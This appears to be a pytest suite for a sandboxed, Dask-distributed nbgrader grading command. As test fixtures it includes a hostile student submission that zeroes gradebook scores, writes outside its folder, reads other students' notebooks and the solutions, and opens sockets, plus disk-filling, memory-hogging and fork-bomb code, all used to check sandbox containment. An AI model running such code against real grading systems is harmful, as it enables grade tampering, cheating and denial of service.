"""``python -m tlhelpers.instructor.grade``: a class graded sandboxed, in parallel, resumably, on Dask.

A tiny probe assignment built here (a few seconds per run) keeps this cheap: answers, a
hidden test, a locked markdown question followed by a manually graded written answer.
One class is graded twice, by plain sequential ``nbgrader autograde`` and by the new
command with 2 jobs, and the grades must be equal; the new command's class also holds an
attacker (reads and writes outside its folder, opens the gradebook, opens a socket) and
a submission whose sandbox is killed mid-grade. Then an incremental rerun, feedback and
export, and the same command fanned out over a real Dask scheduler with two workers on
127.0.0.1, over TLS, one of which is killed while it grades. Last, the limits no single
process carries: a disk-filler and processes that hold too much memory together are
stopped; full tmpfs and a fork bomb are contained and the submission still graded.

bwrap (Debian package ``bubblewrap``) is installed with apt-get when running as root;
otherwise the sandboxed tests skip with the reason.
"""
from __future__ import annotations

import ast
import json
import os
import re
import signal
import socket
import subprocess
import sys
import tempfile
import threading
import time
import uuid
from pathlib import Path

import nbformat
import pytest

from tlhelpers.instructor.contract import Kind

from support.course import command_env, grades, make_course, nbgrader, submit
from support.notebooks import Assignment, find, read, write
from support.paths import CONFIG
from support.probes import build_probe2

pytestmark = pytest.mark.slow

CELL_TIMEOUT = 60
SLOW = 12  # seconds the "0-slowpoke" submission sleeps, so a test can kill its sandbox mid-grade


ATTACK = '''import glob, json, os, pathlib, socket, sqlite3
COURSE, PORT, TAG = {course!r}, {port!r}, {tag!r}
report = {{"gradebooks": [], "zeroed": [], "written": [], "read": [], "network": []}}
tops = [COURSE, os.path.dirname(COURSE), "/grading", "/tmp", os.path.expanduser("~"), "/work", "/root", "/home"]
tops += [str(p) for p in pathlib.Path.cwd().parents]
for top in tops:
    for root, dirs, files in os.walk(top):
        if root.count(os.sep) - top.count(os.sep) > 5:
            dirs[:] = []
        if "gradebook.db" in files:
            report["gradebooks"].append(os.path.join(root, "gradebook.db"))
for db in report["gradebooks"]:
    try:
        con = sqlite3.connect(db)
        con.execute("UPDATE grade SET auto_score = 0")
        con.commit()
        report["zeroed"].append(db)
    except Exception as err:
        pass
for folder in [COURSE, COURSE + "/solutions", os.path.dirname(COURSE), "..", "../..", "../../..", "/tmp"]:
    try:
        with open(os.path.join(folder, f"pwned-{{TAG}}.txt"), "w") as f:
            f.write("pwned")
        report["written"].append(os.path.abspath(folder))
    except Exception:
        pass
for pattern in [COURSE + "/submitted/*/*/*.ipynb", COURSE + "/solutions/*/*.ipynb", "../../*/*/*.ipynb",
                "../../../solutions/*/*.ipynb", "/grading/private/course/solutions/*/*.ipynb"]:
    for path in glob.glob(pattern):
        try:
            open(path).read()
            report["read"].append(path)
        except Exception:
            pass
for address in [("127.0.0.1", PORT), ("8.8.8.8", 53)]:
    try:
        with socket.create_connection(address, timeout=3) as s:
            s.sendall(b"pwned")
        report["network"].append(address[0])
    except Exception:
        pass
print("ATTACK " + json.dumps(report))
def square(x):
    return x * x'''


def _command(course: Path, *args: str, timeout: float = 900) -> subprocess.CompletedProcess:
    env = command_env()
    return subprocess.run([sys.executable, "-m", "tlhelpers.instructor.grade", *args, "--no-progress",
                           f"--cell-timeout={CELL_TIMEOUT}"], cwd=course, env=env, capture_output=True, text=True,
                          timeout=timeout)


def _popen(course: Path, *args: str, env: dict | None = None) -> subprocess.Popen:
    env = command_env(**(env or {}))
    return subprocess.Popen([sys.executable, "-m", "tlhelpers.instructor.grade", *args, "--no-progress",
                             f"--cell-timeout={CELL_TIMEOUT}"], cwd=course, env=env, stdout=subprocess.PIPE,
                            stderr=subprocess.STDOUT, text=True)


def _kill_sandbox_of(student: str, deadline: float) -> bool:
    """SIGKILL the bwrap process grading ``student`` (a child of the command this test started)."""
    while time.monotonic() < deadline:
        for pid in os.listdir("/proc"):
            if not pid.isdigit():
                continue
            try:
                cmd = Path(f"/proc/{pid}/cmdline").read_bytes().split(b"\0")
            except OSError:
                continue
            if cmd and cmd[0].endswith(b"bwrap") and any(f"tlh-grade-{student}-".encode() in c for c in cmd) \
                    and b"/grading" in cmd:
                time.sleep(3)  # let it get into the notebook
                try:
                    os.kill(int(pid), signal.SIGKILL)
                    return True
                except ProcessLookupError:
                    continue
        time.sleep(0.2)
    return False


def _all_grades(course: Path, students) -> dict:
    from nbgrader.api import Gradebook

    out = {}
    with Gradebook(f"sqlite:///{course / 'gradebook.db'}") as gb:
        for s in students:
            sub = gb.find_submission("probe2", s)
            nb = sub.notebooks[0]
            out[s] = {"timestamp": sub.timestamp, "late": nb.late_submission_penalty,
                      "grades": {g.name: (g.auto_score, g.score, bool(g.needs_manual_grade)) for g in nb.grades},
                      "comments": {c.name: c.auto_comment for c in nb.comments}}
    return out


def _students(probe: Assignment, course: Path) -> dict:
    """student -> notebook (None: built differently); the same for both gradings."""
    solved = probe.solved()
    find(solved, "interpret").source = "Both factors have the same sign."
    deleted = probe.solved()
    deleted.cells = [c for c in deleted.cells if c.metadata.get("nbgrader", {}).get("grade_id") != "interpret"]
    flagged = probe.solved()
    find(flagged, "cube").source += "\nimport builtins  # touches the grader's machinery: flagged"
    return {
        "solution": solved,
        "release": probe.student_copy(),
        "deleted-interpret": deleted,
        "hidden-fail": probe.student_copy({"square": "def square(x):\n    return abs(x) * x",
                                           "cube": probe.answer("cube")}),
        "flagged": flagged,
    }


def _make(root: Path, src: Path, students: dict) -> Path:
    course = make_course(root, [], extra={"probe2": src})
    nbgrader(course, "generate_assignment", "probe2", "--force")
    nbgrader(course, "db", "assignment", "add", "probe2", "--duedate=2030-01-01 17:00:00 UTC")
    for sid, nb in students.items():
        folder = submit(course, sid, "probe2", "probe2", nb)
        if sid == "solution":
            (folder / "timestamp.txt").write_text("2031-01-01 12:00:00 UTC")  # late, on purpose
    return course


@pytest.fixture(scope="module")
def classes(tmp_path_factory, bwrap):
    """The same class graded by plain nbgrader and by the new command (plus an attacker and a kill)."""
    root = tmp_path_factory.mktemp("grade-cmd")
    src = build_probe2(root / "src" / "probe2")
    seq = _make(root / "sequential", src, {})
    probe = Assignment.load("probe2", seq / "solutions", seq / "course")
    students = _students(probe, seq)
    for sid, nb in students.items():
        folder = submit(seq, sid, "probe2", "probe2", nb)
        if sid == "solution":
            (folder / "timestamp.txt").write_text("2031-01-01 12:00:00 UTC")
    par = _make(root / "parallel", src, students)

    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen()
    listener.settimeout(1)
    received = []

    def listen():
        end = time.monotonic() + 900
        while time.monotonic() < end and not stop.is_set():
            try:
                conn, _ = listener.accept()
                received.append(conn.recv(100))
                conn.close()
            except OSError:
                continue
    stop = threading.Event()
    thread = threading.Thread(target=listen, daemon=True)
    thread.start()
    tag = uuid.uuid4().hex
    attack = probe.solved()
    find(attack, "square").source = ATTACK.format(course=str(par), port=listener.getsockname()[1], tag=tag)
    submit(par, "attacker", "probe2", "probe2", attack)
    slow = probe.solved()
    find(slow, "square").source = f"time.sleep({SLOW})\n" + probe.answer("square")
    submit(par, "0-slowpoke", "probe2", "probe2", slow)

    timings = {}
    start = time.perf_counter()
    nbgrader(seq, "autograde", "probe2", f"--Execute.timeout={CELL_TIMEOUT}")
    timings["sequential"] = time.perf_counter() - start
    before = (par / "gradebook.db").stat().st_mtime

    start = time.perf_counter()
    proc = _popen(par, "probe2", "--jobs", "2")
    killed = _kill_sandbox_of("0-slowpoke", time.monotonic() + 900)
    out, _ = proc.communicate(timeout=900)
    timings["command"] = time.perf_counter() - start
    stop.set()
    thread.join(5)
    listener.close()
    print(f"\nprobe2 class: sequential nbgrader {timings['sequential']:.0f} s for {len(students)}, "
          f"command --jobs 2 {timings['command']:.0f} s for {len(students) + 2}")
    return {"seq": seq, "par": par, "students": students, "out": out, "rc": proc.returncode, "killed": killed,
            "received": received, "tag": tag, "before": before, "timings": timings}


def test_grades_equal_plain_sequential_nbgrader(classes):
    assert classes["rc"] == 0, classes["out"][-5000:]
    names = list(classes["students"])
    seq, par = _all_grades(classes["seq"], names), _all_grades(classes["par"], names)
    assert par == seq
    assert seq["solution"]["grades"]["correct_square"][0] == 1.0 and seq["release"]["grades"]["correct_cube"][0] == 0
    assert seq["hidden-fail"]["grades"]["correct_square"][0] == 0.0
    assert seq["flagged"]["grades"]["correct_cube"][2] is True, "the flag reaches the real gradebook"
    assert par["solution"]["timestamp"] is not None


def test_deleted_written_answer_is_graded_restored_empty_after_a_locked_markdown_cell(classes):
    """nbgrader alone fails this submission with KeyError; here it is graded, the answer put back empty."""
    for course in (classes["seq"], classes["par"]):
        nb = read(course / "autograded" / "deleted-interpret" / "probe2" / "probe2.ipynb")
        ids = [c.metadata.get("nbgrader", {}).get("grade_id") for c in nb.cells]
        assert ids.index("interpret") == ids.index("question") + 1, ids
        assert find(nb, "interpret").source == ""
        got = grades(course, "probe2", "deleted-interpret", "probe2")
        assert got["correct_square"].score == 1.0 and got["correct_cube"].score == 1.0
        assert got["interpret"].needs_manual


def test_attacker_reaches_nothing_outside_its_folder_and_changes_no_other_grade(classes):
    par, tag = classes["par"], classes["tag"]
    nb = read(par / "autograded" / "attacker" / "probe2" / "probe2.ipynb")
    text = "".join(o.get("text", "") for c in nb.cells for o in c.get("outputs", []))
    report = json.loads(re.search(r"ATTACK (\{.*\})", text).group(1))
    assert report["gradebooks"] == [] and report["zeroed"] == [], report
    others = [path for path in report["read"] if "/attacker/" not in os.path.normpath(os.path.join("/x/y/z", path))]
    assert others == [] and report["network"] == [], report  # its own notebook is all it can read
    assert all(not w.startswith(str(par.parent)) for w in report["written"]), report  # only its own folder or /tmp
    assert classes["received"] == [], "a submission reached a socket outside its sandbox"
    for folder in (par, par / "solutions", par.parent, Path("/tmp")):
        assert not (folder / f"pwned-{tag}.txt").exists(), folder
    assert not list(par.rglob(f"pwned-{tag}.txt")), "wrote into the course"
    got = grades(par, "probe2", "attacker", "probe2")
    assert got["correct_square"].score == 1.0 and got["correct_cube"].score == 1.0
    # every other grade is what plain nbgrader gave (checked in full above)
    names = list(classes["students"])
    assert _all_grades(par, names) == _all_grades(classes["seq"], names)


def test_a_killed_sandbox_is_retried_and_the_class_is_graded(classes):
    assert classes["killed"], "the test could not find the slowpoke's sandbox to kill"
    log = (classes["par"] / "nbgrader.log").read_text("utf-8")
    assert re.search(r"0-slowpoke/probe2: the grading process was killed by signal SIGKILL; retrying", log), log[-3000:]
    got = grades(classes["par"], "probe2", "0-slowpoke", "probe2")
    assert got["correct_square"].score == 1.0
    assert re.search(r"0-slowpoke/probe2: graded in [\d.]+ s on ", log)


def test_rerun_grades_only_new_or_changed_submissions_and_force_regrades(classes):
    par = classes["par"]
    again = _command(par, "probe2", "--jobs", "2")
    assert again.returncode == 0 and "grading 0 submission(s)" in again.stderr, again.stderr[-3000:]
    nb = read(par / "submitted" / "release" / "probe2" / "probe2.ipynb")
    find(nb, "cube").source = "def cube(x):\n    return x ** 3"
    write(nb, par / "submitted" / "release" / "probe2" / "probe2.ipynb")
    changed = _command(par, "probe2", "--jobs", "2")
    assert changed.returncode == 0 and "grading 1 submission(s)" in changed.stderr, changed.stderr[-3000:]
    assert grades(par, "probe2", "release", "probe2")["correct_cube"].score == 1.0
    assert "graded 1, not graded 0, unchanged 6" in changed.stderr, changed.stderr[-2000:]


def test_feedback_and_export_work_on_the_commands_gradebook(classes, tmp_path):
    par = classes["par"]
    nbgrader(par, "generate_feedback", "probe2")
    html = (par / "feedback" / "hidden-fail" / "probe2" / "probe2.html").read_text("utf-8")
    assert "negative numbers too" in html and "square(-4)" not in html
    nbgrader(par, "export", "--to", str(tmp_path / "grades.csv"))
    assert "attacker" in (tmp_path / "grades.csv").read_text("utf-8")


def test_no_sandbox_is_refused_unless_unsandboxed(tmp_path):
    """Without bwrap the command says so and grades nothing; --unsandboxed is the explicit way out."""
    course = make_course(tmp_path / "c", [])
    env = command_env(PATH="/nonexistent")
    (course / "solutions" / "x").mkdir(parents=True)
    proc = subprocess.run([sys.executable, "-m", "tlhelpers.instructor.grade", "x"], cwd=course, env=env,
                          capture_output=True, text=True, timeout=120)
    assert proc.returncode == 3, proc.stderr
    assert "bubblewrap is not installed" in proc.stderr and "--unsandboxed" in proc.stderr


# --- across machines: a real Dask scheduler and two workers on 127.0.0.1, over TLS -------------
def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def _tls(folder: Path):
    """A throwaway certificate for every endpoint: the dask CLI's flags, the command's config, a Security."""
    pytest.importorskip("cryptography", reason="the test's TLS certificate is made with cryptography")
    from distributed.security import Security

    made = Security.temporary()
    cert, key = folder / "dask-cert.pem", folder / "dask-key.pem"
    cert.write_text(made.tls_ca_file)
    key.write_text(made.tls_client_key)
    flags = ["--tls-ca-file", str(cert), "--tls-cert", str(cert), "--tls-key", str(key)]
    config = {"DASK_DISTRIBUTED__COMM__TLS__CA_FILE": str(cert), "DASK_DISTRIBUTED__COMM__TLS__CLIENT__CERT": str(cert),
              "DASK_DISTRIBUTED__COMM__TLS__CLIENT__KEY": str(key), "DASK_DISTRIBUTED__COMM__REQUIRE_ENCRYPTION": "True"}
    return flags, config, made


def test_dask_cluster_over_tls_grades_the_class_and_survives_a_killed_worker(tmp_path, bwrap):
    pytest.importorskip("distributed", reason="dask[distributed] is in the instructor extra")
    from distributed import Client

    src = build_probe2(tmp_path / "src" / "probe2")
    course = make_course(tmp_path / "course", [], extra={"probe2": src})
    nbgrader(course, "generate_assignment", "probe2", "--force")
    probe = Assignment.load("probe2", course / "solutions", course / "course")
    slow = probe.solved()
    find(slow, "square").source = f"time.sleep({SLOW})\n" + probe.answer("square")
    for sid, nb in {"a-solution": probe.solved(), "b-release": probe.student_copy(), "c-slow": slow}.items():
        submit(course, sid, "probe2", "probe2", nb)
    env = command_env()
    flags, tls_config, security = _tls(tmp_path)
    port = _free_port()
    address = f"tls://127.0.0.1:{port}"
    procs = []
    try:
        procs.append(subprocess.Popen(["dask", "scheduler", "--host", "127.0.0.1", "--port", str(port),
                                       "--protocol", "tls", *flags, "--no-dashboard"], env=env,
                                      stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL))
        workers = {}
        for name in ("w1", "w2"):
            wport = _free_port()
            workers[f"tls://127.0.0.1:{wport}"] = subprocess.Popen(
                ["dask", "worker", address, "--nthreads", "1", "--no-nanny", "--no-dashboard", "--name", name,
                 "--host", "127.0.0.1", "--worker-port", str(wport), "--protocol", "tls", *flags,
                 "--death-timeout", "60"],
                env=env, cwd=tmp_path, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        procs += list(workers.values())
        with Client(address, timeout="60s", security=security) as client:
            client.wait_for_workers(2, timeout=120)
            grading = _popen(course, "probe2", "--scheduler", address, env=tls_config)
            procs.append(grading)
            victim = None
            deadline = time.monotonic() + 300
            while victim is None and time.monotonic() < deadline:
                for worker, keys in client.processing().items():
                    if any("c-slow" in str(k) for k in keys) and worker in workers:
                        victim = worker
                time.sleep(0.5)
            assert victim, "the slow submission never started on a worker"
            time.sleep(4)
            workers[victim].kill()
            out, _ = grading.communicate(timeout=600)
        assert grading.returncode == 0, out[-5000:]
        got = {s: grades(course, "probe2", s, "probe2") for s in ("a-solution", "b-release", "c-slow")}
        assert got["a-solution"]["correct_cube"].score == 1.0 and got["b-release"]["correct_cube"].score == 0.0
        assert got["c-slow"]["correct_square"].score == 1.0, "the killed worker's submission was graded elsewhere"
        assert "Dask scheduler" in out and "plain TCP" not in out
    finally:
        for p in procs:
            if p.poll() is None:
                p.kill()
            p.wait(timeout=30)


# --- limits that no single process carries: the submission's memory, disk, processes, tmpfs ------
FILL_DISK = """import itertools, os
for i in itertools.count():  # a disk-filler: more and more files, each within the per-file limit
    with open(f"junk{i}.bin", "wb") as f:
        f.write(os.urandom(4 << 20))
"""
HOG_MEMORY = """import subprocess, sys, time
hogs = [subprocess.Popen([sys.executable, "-c", "x = b'x' * (300 << 20); import time; time.sleep(300)"])
        for _ in range(6)]  # 1.8 GB together, each process well within its own address-space limit
time.sleep(300)
"""
CONTAINED = """import os, subprocess
def fill(path):
    try:
        with open(path, "wb") as f:
            for _ in range(200):
                f.write(b"x" * (4 << 20))  # 800 MB into a tmpfs: memory, not disk
        return "wrote 800 MB"
    except OSError as err:
        return type(err).__name__ + ": " + os.strerror(err.errno)
kids, stopped = [], None
try:
    for _ in range(3000):
        kids.append(subprocess.Popen(["sleep", "120"]))
except OSError as err:
    stopped = type(err).__name__
for kid in kids:
    kid.kill()
    kid.wait()
print("LIMITS", {"tmp": fill("/tmp/fill"), "shm": fill("/dev/shm/fill"), "started": len(kids), "stopped": stopped})
"""


def _grade_alone(tmp_path: Path, student: str, code: str, **limits):
    """Return grade_one's Result for a probe2 submission whose ``square`` answer runs ``code`` first."""
    from tlhelpers.instructor import worker
    from tlhelpers.instructor.contract import Job, Limits
    from tlhelpers.instructor.course import read_tree

    src = build_probe2(tmp_path / "src" / "probe2")
    nb = read(src / "probe2.ipynb")
    find(nb, "square").source = code + "def square(x):\n    return x * x\n"
    write(nb, tmp_path / student / "probe2.ipynb")
    job = Job(student, "probe2", read_tree(tmp_path / student), read_tree(src), CONFIG.read_bytes(),
              Limits(timeout_s=300, cell_timeout=CELL_TIMEOUT, **limits), gradebook=worker.empty_gradebook())
    return worker.grade_one(job)


def test_a_submission_that_fills_the_disk_is_stopped_at_its_quota(tmp_path, bwrap):
    result = _grade_alone(tmp_path, "filler", FILL_DISK, disk_mb=200)
    assert result.kind is Kind.OVER_LIMIT and result.reason.startswith("disk limit:"), result.reason
    assert not list(Path(tempfile.gettempdir()).glob("tlh-grade-filler-*")), "its throwaway folder is gone"


def test_processes_that_hold_too_much_memory_together_are_stopped(tmp_path, bwrap):
    result = _grade_alone(tmp_path, "hog", HOG_MEMORY, memory_mb=1200)
    assert result.kind is Kind.OVER_LIMIT and result.reason.startswith("memory limit:"), result.reason
    import psutil

    hogs = [p.pid for p in psutil.process_iter(["cmdline"])
            if "x = b'x' * (300 << 20)" in " ".join(p.info["cmdline"] or [])]
    assert hogs == [], "every process of the submission died with it"


def test_tmpfs_and_process_limits_contain_a_submission_that_is_still_graded(tmp_path, bwrap):
    from tlhelpers.instructor import worker

    result = _grade_alone(tmp_path, "greedy", CONTAINED)
    assert result.ok, result.reason + result.log[-3000:]
    nb = nbformat.reads(result.autograded["probe2.ipynb"].decode(), as_version=4)
    text = "".join(o.get("text", "") for o in find(nb, "square").outputs)
    seen = ast.literal_eval(re.search(r"LIMITS (\{.*\})", text).group(1))
    assert seen["tmp"].startswith("OSError: No space left") and seen["shm"].startswith("OSError: No space left"), seen
    if os.geteuid() == 0:  # a uid of its own per submission makes RLIMIT_NPROC a per-submission limit
        assert seen["stopped"] == "BlockingIOError" and seen["started"] < worker.PROCESSES, seen
    assert result.notebooks["probe2"]["grades"]["correct_square"]["auto_score"] == 1.0


def test_a_python_environment_under_tmp_is_visible_inside_the_sandbox(tmp_path, bwrap):
    """A virtualenv in /tmp was hidden by the sandbox's own /tmp: every submission "NOT GRADED ... setpriv"."""
    import shutil

    venv = Path(tempfile.mkdtemp(prefix="tlh-venv-", dir="/tmp"))
    venv.chmod(0o755)  # as `python -m venv /tmp/x` makes it: the sandbox's user may read it
    try:
        subprocess.run([sys.executable, "-m", "venv", "--without-pip", "--system-site-packages", str(venv)],
                       check=True, timeout=120)
        src = build_probe2(tmp_path / "src" / "probe2")
        course = make_course(tmp_path / "course", [], extra={"probe2": src})
        nbgrader(course, "generate_assignment", "probe2", "--force")
        probe = Assignment.load("probe2", course / "solutions", course / "course")
        submit(course, "ada", "probe2", "probe2", probe.solved())
        proc = subprocess.run([str(venv / "bin" / "python"), "-m", "tlhelpers.instructor.grade", "probe2",
                               "--no-progress", f"--cell-timeout={CELL_TIMEOUT}"], cwd=course, env=command_env(),
                              capture_output=True, text=True, timeout=600)
        assert proc.returncode == 0, proc.stderr[-3000:]
        assert grades(course, "probe2", "ada", "probe2")["correct_square"].score == 1.0
    finally:
        shutil.rmtree(venv, ignore_errors=True)
